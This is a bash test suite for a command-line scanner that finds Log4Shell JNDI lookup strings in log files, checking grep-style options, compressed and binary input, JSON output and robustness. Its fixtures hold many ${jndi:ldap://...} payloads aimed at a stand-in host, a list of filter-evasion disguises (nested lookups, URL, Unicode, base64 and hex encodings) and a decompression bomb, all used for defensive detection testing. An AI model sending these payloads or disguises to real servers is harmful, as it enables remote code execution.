#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# scan.sh PROGRAM SOURCE-TREE: the command scan, as somebody meets it who would have used grep.
# shellcheck disable=SC2016 # nothing in single quotes is for the shell
set -uo pipefail
. "$(dirname "$0")/checks.sh"
begin "$@"
export LC_ALL=C.UTF-8 TZ=UTC
p='jndi-sensor: error: scan: '

gives() { # gives STATUS NAME 'EXPECTED OUTPUT' ARGUMENTS...
    local code=$1 name=$2 expected=$3
    shift 3
    run scan "$@"
    if [ "$status" -eq "$code" ] && [ "$(cat out)" = "$expected" ]; then verdict yes "$name"
    else verdict no "$name" "status $status, expected $code; was:
$(cat -v out err)
expected:
$expected"; fi
}
packer() { command -v "$1" >/dev/null || { echo "# $1 is missing: its checks are left out"; false; }; }

get='10.0.0.5 - - [10/Dec/2021:10:00:00 +0000] "GET'
printf '%s\n' 'a clean line' "$get /\${jndi:ldap://h/a} HTTP/1.1\" 200 1" 'another ${lower:X}' \
    "$get /%24%7Bjndi:rmi://h/b%7D HTTP/1.1\" 200 1" 'the last' >a.log
printf '%s\n' nothing 'x ${jndi:dns://h/c} y' >b.log
printf 'clean\n' >clean.log
a2="\${jndi:ldap://h/a}  <- $get /\${jndi:ldap://h/a} HTTP/1.1\" 200 1"
a4="\${jndi:rmi://h/b}  <- $get /%24%7Bjndi:rmi://h/b%7D HTTP/1.1\" 200 1"
b2='${jndi:dns://h/c}  <- x ${jndi:dns://h/c} y'

# --- help and usage ---
run scan --help
check "scan --help: status 0, on stdout" [ $status -eq 0 -a -s out -a ! -s err ]
cp out help
run help scan
check "help scan: the same" cmp out help
run --help
check "--help: names the command" grep -q '^  scan PATH' out
fails 2 "${p}unknown option '-z' *" "an unknown option" scan -z a.log
fails 2 "${p}--json and -c at once: *" "two forms at once" scan --json -c a.log
fails 2 "${p}--since 'soon' is no time: *" "a bad time" scan --since soon a.log
fails 2 "${p}--max-count 'x': write a number from 1" "a bad number" scan -m x a.log

# --- grep's letters ---
gives 0 "a file: no name, line numbers" "2: $a2
4: $a4" a.log
gives 0 "two files: names" "a.log:2: $a2
a.log:4: $a4
b.log:2: $b2" a.log b.log
gives 0 "-h: no names" "2: $a2
4: $a4
2: $b2" -h a.log b.log
gives 0 "-H: a name" "b.log:2: $b2" -H b.log
gives 0 "-hH: the last one counts" "b.log:2: $b2" -hH b.log
gives 0 "-c: lines of each" "a.log:2
b.log:1
clean.log:0" -c a.log b.log clean.log
gives 0 "-c of one: no name" '2' -c a.log
gives 0 "-l: names of those with hits" 'a.log
b.log' -l a.log clean.log b.log
gives 0 "-o: names of lookups" 'ldap://h/a
rmi://h/b' -o a.log
gives 0 "-o of several" 'a.log:ldap://h/a
a.log:rmi://h/b
b.log:dns://h/c' -o a.log b.log
gives 0 "-on: with line numbers" '2:ldap://h/a
4:rmi://h/b' -on a.log
gives 0 "-m 1" "2: $a2" -m 1 a.log
gives 0 "-m 1 -c" '1' -m1 -c a.log
printf '${jndi:ldap://h/1} ${jndi:ldap://h/2}\n${jndi:ldap://h/1}\n' >two.log
gives 0 "two lookups in a line are two, and one line" 'ldap://h/1
ldap://h/2' -o -m 1 two.log
gives 0 "-c counts lines" 2 -c two.log
gives 1 "nothing: status 1" '' clean.log
gives 1 "-c: nothing" 0 -c clean.log
gives 1 "-l: nothing" '' -l clean.log
"$sensor" scan - <a.log >out 2>err
check "-: standard input" [ "$(cat out)" = "2: $a2
4: $a4" ]
"$sensor" scan <a.log >out 2>err
check "no path: standard input" [ "$(wc -l <out)" -eq 2 ]
"$sensor" scan -c b.log - <a.log >out 2>err
check "-: its name" [ "$(cat out)" = "b.log:1
(standard input):2" ]
printf '${jndi:ldap://h/end}' >end.log
gives 0 "the last line needs no newline" 'ldap://h/end' -o end.log
: >empty.log
gives 1 "an empty file" '' empty.log

# --- what cannot be read ---
gives 2 "a missing file: 2, and the others are read" "b.log:2: $b2" missing.log b.log
check "a missing file: said" says 'jndi-sensor: error: missing.log: No such file or directory' err
mkdir tree tree/sub
cp a.log tree/a.log
cp b.log tree/sub/b.log
fails 2 'jndi-sensor: error: tree: a directory: -r *' "a directory without -r" scan tree
if [ "$(id -u)" -ne 0 ]; then
    cp a.log locked.log
    chmod 0 locked.log
    fails 2 'jndi-sensor: error: locked.log: Permission denied' "a locked file" scan locked.log
fi
"$sensor" scan a.log >/dev/full 2>err
check "a full device: status 2" [ $? -eq 2 ]
check "a full device: and why" says 'standard output: No space left on device' err
for _ in $(seq 3000); do cat a.log; done >many.log
"$sensor" scan many.log 2>err | head -n 1 >out
codes=("${PIPESTATUS[@]}")
check "into head: a quiet end" [ "${codes[0]}" -eq 0 -a ! -s err -a "$(wc -l <out)" -eq 1 ]
gives 0 "many hits: none is lost" 6000 -c many.log

# --- directories ---
ln -s ../b.log tree/link.log
ln -s . tree/sub/loop
mkfifo tree/pipe
gives 0 "-r: in the order of names, without links, pipes and loops" 'tree/a.log:2
tree/sub/b.log:1' -r -c tree
gives 0 "-R: with links, each loop once" 'tree/a.log
tree/link.log
tree/sub/b.log' -R -l tree
gives 0 "-r of a file: no name" 2 -rc a.log
gives 0 "-r of a link: it was named" 1 -rc tree/link.log
(cd tree && "$sensor" scan -r -l) >out 2>err
check "-r without a path: here" [ "$(cat out)" = './a.log
./sub/b.log' ]
(cd tree && "$sensor" scan -r . >here.log 2>../err)
check "the output is not read: status 2" [ $? -eq 2 ]
check "the output is not read: said" says './here.log: is the output, too' err
check "the output is not read: nothing twice" [ "$(wc -l <tree/here.log)" -eq 3 ]
rm tree/here.log

# --- packed files ---
for tool in gzip bzip2 xz zstd; do
    packer $tool || continue
    $tool -c <a.log >packed # known by content, not by name
    gives 0 "$tool" "2: $a2
4: $a4" packed
    { $tool -c <a.log; $tool -c <b.log; } >packed
    gives 0 "$tool: two parts are one text" '2:ldap://h/a
4:rmi://h/b
7:dns://h/c' -on packed
    $tool -c <many.log >packed
    "$sensor" scan -c - <packed >out 2>err
    check "$tool: from standard input" [ "$(cat out)" = 6000 ]
    head -c $(($(stat -c %s packed) - 9)) packed >cut
    run scan -c cut
    expect 2 'jndi-sensor: error: cut: the file ends in the middle of its *' "$tool: cut off: status 2"
    { head -c 30 packed; head -c 60 /dev/urandom; tail -c +91 packed; } >damaged
    run scan -c damaged
    expect 2 'jndi-sensor: error: damaged: *' "$tool: damaged: status 2"
done

# --- binary files ---
{ printf 'ELF\0\1\2\n'; cat a.log; } >binary
gives 0 "a binary file: one line" 'Binary file binary matches' binary
gives 0 "a binary file: -c counts" 2 -c binary
gives 0 "a binary file: -l names" binary -l binary
gives 0 "a binary file: -o says no more" 'Binary file binary matches' -o binary
gives 0 "a binary file: -a" 'ldap://h/a
rmi://h/b' -a -o binary
run scan --json binary
check "a binary file: --json" [ "$(wc -l <out)" -eq 2 ]
printf 'ELF\0\1\2\n' >binary
gives 1 "a binary file without a hit: nothing" '' binary
for code in UTF-16 UTF-16LE UTF-16BE; do
    iconv -f UTF-8 -t $code a.log >wide.log
    gives 0 "$code is text" "2: $a2
4: $a4" wide.log
done

# --- times ---
printf '%s\n' '2021-12-09T23:59:59Z ${jndi:ldap://h/1}' '2021-12-10T00:00:00Z ${jndi:ldap://h/2}' \
    'Dec  9 10:00:00 host ${jndi:ldap://h/3}' 'Dec 11 10:00:00 host ${jndi:ldap://h/4}' \
    '10.0.0.5 - - [09/Dec/2021:10:00:00 +0000] "${jndi:ldap://h/5}' '10.0.0.5 - - [11/Dec/2021:10:00:00 +0000] "${jndi:ldap://h/6}' \
    '1639007999 ${jndi:ldap://h/7}' '1639130400.5 ${jndi:ldap://h/8}' ' at ${jndi:ldap://h/9}' >times.log
touch -d 2021-12-12T00:00:00Z times.log # syslog's lines are of the year before this
gives 0 "--since" 'ldap://h/2
ldap://h/4
ldap://h/6
ldap://h/8
ldap://h/9' -o --since 2021-12-10 times.log
gives 0 "--since: a moment" 'ldap://h/4
ldap://h/6
ldap://h/9' -o --since 2021-12-11T09:00:00Z times.log
{ printf '2021-12-09T00:00:00Z '; head -c 200000 /dev/zero | tr '\0' x; printf '${jndi:ldap://h/1}\n'; } >long.log
gives 1 "--since: a long line has the time that it begins with" '' -o --since 2021-12-10 long.log
gives 0 "--since: and is found when it is new" 'ldap://h/1' -o --since 2021-12-08 long.log

# --- long lines ---
for at in 32750 65500 65520 65530 98290 131060 1000000; do
    { head -c $at /dev/zero | tr '\0' x; printf ' ${jndi:ldap://h/%d} ' $at; head -c 100000 /dev/zero | tr '\0' y; printf '\n${jndi:rmi://h/next}\n'; } >long.log
    gives 0 "a line of $((at + 100000)) bytes: found once, where it is" "1:ldap://h/$at
2:rmi://h/next" -on long.log
done
run scan --json long.log
check "offsets count bytes of the text" says '"line":1,"offset":1000001,'
run scan long.log
check "a long line is shown around its hit" [ "$(head -n 1 out | wc -c)" -lt 1200 ]

# --- JSON ---
run scan --json a.log b.log
expect 0 '' "--json: status 0"
check "--json: an object per hit" [ "$(grep -c '^{"file":".*}$' out)" -eq 3 ]
check "--json: place" says '{"file":"a.log","line":4,"offset":'"$(head -n 3 a.log | wc -c)"',"found":"lookup","stage":"lookup","lookup":"rmi://h/b","scheme":"rmi","host":"h","port":1099,"path":"b",'
check "--json: as it came" says '"raw":"10.0.0.5 - - [10/Dec/2021:10:00:00 +0000] \"GET /%24%7Bjndi:rmi://h/b%7D HTTP/1.1\" 200 1"'
check "--json: without encodings" says '"decoded":"${jndi:rmi://h/b}"'
run scan --json clean.log
check "--json: nothing is nothing" [ $status -eq 1 -a ! -s out ]

# --- everything that egrep finds, and every disguise ---
for word in 'ldap://' 'ldaps://' 'rmi://' 'dns://' 'LDAP://' 'lDaP://'; do
    for before in '' '$' '${' '}' '$${' '\' '${java:x}' '${a:-' '"' '%24%7B' '&#36;' $'\xff' '${jndi:'; do
        for after in '' '}' 'h/a}' 'h/a' 'h/a HTTP/1.1" 200' '${' '}}' '"}' $'\xc3\xa9' '${env:X}' ':-a}'; do
            printf '%s${jndi:%s%s\n%s${JnDi:%s%s\n' "$before" "$word" "$after" "$before" "$word" "$after"
        done
    done
done >egrep.log
printf '%s\n' 'jndi:ldap://h/a' '{jndi:ldap://h/a}' '$ {jndi:ldap://h/a}' '$(jndi:ldap://h/a)' '${jnd:ldap://h/a}' >>egrep.log
grep -a -E -i -n '\$\{jndi:(ldap[s]?|rmi|dns)://' egrep.log | cut -d: -f1 >expected
run scan -on egrep.log
cut -d: -f1 out | uniq >found
check "everything that egrep finds ($(wc -l <expected) lines)" [ "$(wc -l <expected)" -gt 1700 -a -z "$(comm -23 <(sort expected) <(sort found))" ]
check "and nothing else" cmp expected found
cat >disguises.log <<'END'
${${lower:j}ndi:ldap://h/a}
${${::-j}${::-n}${::-d}${::-i}:ldap://h/a}
${${env:X:-j}ndi${env:X:-:}${env:X:-l}dap://h/a}
${jnd${upper:ı}:ldap://h/a}
${${lower:${upper:j}}ndi:ldap://h/a}
${${date:'j'}ndi:ldap://h/a}
%24%7Bjndi:ldap://h/a%7D
%2524%257Bjndi:ldap://h/a%257D
$%7Bjndi:ldap://h/a%7D
\u0024\u007bjndi:ldap://h/a}
{"a":"\u0024\u007bjndi:ldap:\/\/h\/a}"}
&#36;{jndi:ldap://h/a}
&#x24;&#x7b;jndi:ldap://h/a}
%c0%a4%7bjndi:ldap://h/a}
＄｛jndi:ldap://h/a｝
Authorization: Basic JHtqbmRpOmxkYXA6Ly9oL2F9
cookie=JHtqbmRpOmxkYXA6Ly9oL2F9; path=/
247b6a6e64693a6c6461703a2f2f682f617d
END
gives 0 "every disguise" "$(for i in $(seq "$(wc -l <disguises.log)"); do echo "$i:ldap://h/a"; done)" -on disguises.log
printf '%s\n' '${${lower:j}ndi:ldap://h/a HTTP/1.1" 200' '%24%7Bjndi:ldap://h/a HTTP/1.1" 200' '${java:x}${jndi:ldap://h/a}' >odd.log
run scan odd.log
check "unclosed: said" grep -q '^1: ${jndi:ldap://h/a (unclosed)  <- ' out
check "unclosed and encoded: said" grep -q '^2: ${jndi:ldap://h/a (unclosed)  <- ' out
check "not evaluated: said" grep -q '^3: ${jndi:ldap://h/a (not evaluated)  <- ' out
run scan --json odd.log
check "unclosed: less confidence" grep -q '"line":1,.*"found":"unclosed",.*"confidence":30,.*"effective":false,"reason":"the expression is not closed' out
check "not evaluated: still less" grep -q '"line":3,.*"found":"text",.*"confidence":20,' out
cat >benign.log <<'END'
10.0.0.5 - - [10/Dec/2021:10:00:00 +0000] "GET /?q=100%25+of+%24%7Bprice%7D HTTP/1.1" 200 1
template ${user.name} and ${a:-b} and `${x ? `${y}` : z}`
a token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U
jndi:ldap lookups are off; see ldap://example.org/ and ${log4j2.formatMsgNoLookups}
PATH=${PATH}:/usr/bin $${escaped} $1 {jndi} ${}
END
gives 1 "what is none" '' benign.log

# --- a terminal ---
gives 0 "no colours in a pipe" "2: $b2" b.log
run scan --color always -H b.log
check "--color always: file, line, lookup" says $'\e[35mb.log\e[0m\e[36m:\e[0m\e[32m2\e[0m\e[36m:\e[0m \e[1;31m${jndi:dns://h/c}\e[0m'
printf '${jndi:ldap://h/\e[2J} \xff \xe2\x80\xae\n' >evil.log
gives 0 "a terminal obeys nothing" '1: ${jndi:ldap://h/\x1b[2J}  <- ${jndi:ldap://h/\x1b[2J} \xff \xe2\x80\xae' evil.log
run scan --progress always a.log
check "--progress always: on stderr" grep -q $'^\r\[[#-]*\] [0-9]*%' err
check "--progress always: erased at the end" [ "$(tail -c 4 err)" = $'\r\033[K' ]
"$sensor" scan --progress always a.log >out 2>&1
check "a hit begins where the progress line was erased" grep -q $'\r\033\\[K2: \\${jndi' out
if command -v script >/dev/null; then
    on_tty scan a.log
    check "a terminal: colours" says $'\e[1;31m'
    NO_COLOR=1 on_tty scan a.log
    check "NO_COLOR: none" no says $'\e[1;31m'
    on_tty scan --json a.log
    check "--json: never coloured" no says $'\e[1;31m'
else
    echo "# script(1) is missing: the checks on a terminal are left out"
fi

# --- what nobody waits for ---
{ cat b.log; sleep 4; } | "$sensor" scan -o - >out 2>err &
sleep 2
check "a pipe: what is there is told before the end" says 'dns://h/c'
wait
yes '${a:${b:${c:${jndi' | head -c 3000000 >hostile.log
yes '%25' | tr -d '\n' | head -c 300000 >>hostile.log
yes '${' | tr -d '\n' | head -c 300000 >>hostile.log
timeout 120 "$sensor" scan -c hostile.log >out 2>err
check "hostile logs end" [ $? -le 1 ]
if packer gzip; then
    head -c 300000000 /dev/zero | gzip -1 >bomb.gz
    timeout 120 "$sensor" scan bomb.gz >out 2>err
    check "300 MB of nothing in a small file" [ $? -eq 1 ]
fi

finish_checks
